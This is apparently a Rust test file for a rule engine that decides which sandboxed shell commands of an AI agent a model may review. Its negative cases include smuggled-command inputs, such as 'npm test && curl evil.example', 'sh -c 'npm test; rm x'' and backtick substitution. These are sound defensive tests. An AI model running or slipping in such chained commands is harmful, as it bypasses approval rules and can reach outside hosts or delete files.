//! Tests which calls rules open to a model's review.

use serde_json::json;

use super::{commands, compile, rule, shell};
use crate::{Approver, Call, Conditions, Effect, Rule, Rules, Scope, sentence};
use Effect::{Allow, Ask, Deny};
use Scope::{Installation, Person, Session, Tenant};

fn opening(id: &str, when: Conditions) -> Rule {
    Rule {
        reviewed: true,
        ..rule(id, Ask, Tenant, when)
    }
}

#[track_caller]
fn check(rules: &[Rule], command: &str, reviewed: bool) {
    let arguments = json!({ "command": command });
    let shell = shell();
    let call = Call {
        shell: Some(&shell),
        ..Call::new("sandbox", "execute_command", &arguments)
    };
    let decision = compile(rules).decide(&call);
    assert_eq!(decision.reviewed, reviewed, "{command}: {decision:?}");
}

#[test]
fn a_call_is_open_only_where_everything_that_asks_opened_it() {
    let open = || opening("open", Conditions::default());
    check(&[open()], "ls", true);
    check(&[], "ls", false);
    let ask = |scope| rule("ask", Ask, scope, Conditions::default());
    for scope in Scope::ALL {
        check(&[open(), ask(scope)], "ls", false);
    }
    check(
        &[open(), rule("no", Deny, Person, Conditions::default())],
        "ls",
        false,
    );
    check(
        &[open(), rule("yes", Allow, Session, Conditions::default())],
        "ls",
        false,
    );
    let also = Rule {
        scope: Installation,
        ..opening("also", Conditions::default())
    };
    check(&[open(), also], "ls", true);
    for who in [
        Approver::Two,
        Approver::SomebodyElse,
        Approver::Role("admin".into()),
    ] {
        let mut wants = ask(Tenant);
        wants.approvers.who = who;
        check(&[open(), wants], "ls", false);
    }
}

#[test]
fn a_command_is_open_only_where_every_part_surely_is() {
    let npm = || opening("npm", commands(&["npm test"]));
    check(&[npm()], "npm test", true);
    check(&[npm()], "npm test --silent", true);
    check(&[npm()], "npm test --prefix x", false);
    for command in [
        "npm test && curl evil.example",
        "npm test > report.txt",
        "npm test $X",
        "PATH=. npm test",
        "npm tests",
        "npm test `x`",
        "sh -c 'npm test; rm x'",
    ] {
        check(&[npm()], command, false);
    }
    // A part that runs without asking needs no review.
    let ls = rule("ls", Allow, Tenant, commands(&["ls"]));
    check(&[npm(), ls.clone()], "npm test | ls", true);
    check(&[npm(), ls.clone()], "ls", false);
    // People decide on a call that may be denied.
    let rm = rule("rm", Deny, Tenant, commands(&["rm"]));
    check(&[opening("all", Conditions::default()), rm], "$X", false);
    let but = Rule {
        except: vec![commands(&["git push"])],
        ..opening("git", commands(&["git"]))
    };
    check(std::slice::from_ref(&but), "git status", true);
    check(std::slice::from_ref(&but), "git push", false);
    check(&[but], "git -C x push", false);
}

#[test]
fn only_ask_rules_of_administrators_that_want_the_owner_alone_open_calls() {
    let is_wrong = |rule: Rule| Rules::compile(vec![rule]).is_err();
    let open = || opening("open", Conditions::default());
    assert!(!is_wrong(open()));
    for scope in [Session, Person] {
        assert!(is_wrong(Rule { scope, ..open() }));
    }
    for effect in [Allow, Deny] {
        assert!(is_wrong(Rule { effect, ..open() }));
    }
    let mut two = open();
    two.approvers.who = Approver::Two;
    assert!(is_wrong(two));
    let mut gesture = open();
    gesture.approvers.fresh_gesture = true;
    assert!(is_wrong(gesture));
    // A stored rule with another scope asks, and opens nothing.
    let kept = Rules::compile_safely(vec![Rule {
        scope: Person,
        ..open()
    }]);
    let arguments = json!({});
    let decision = kept.decide(&Call::new("files", "read_file", &arguments));
    assert_eq!((decision.effect, decision.reviewed), (Ask, false));
}

#[test]
fn an_opened_definition_is_that_of_the_rule() {
    let rules = compile(&[Rule {
        definition: Some("v1".into()),
        ..opening("open", Conditions::default())
    }]);
    let arguments = json!({});
    for (definition, reviewed) in [("v1", true), ("v2", false)] {
        let call = Call {
            definition: Some(definition),
            ..Call::new("files", "read_file", &arguments)
        };
        assert_eq!(rules.decide(&call).reviewed, reviewed, "{definition}");
    }
}

#[test]
fn the_sentence_says_that_a_model_may_approve() {
    assert_eq!(
        sentence(&opening("open", commands(&["npm test"]))),
        "Always, for everybody in this tenant, ask before you run `npm test …` with any tool. \
         A model may approve it."
    );
}
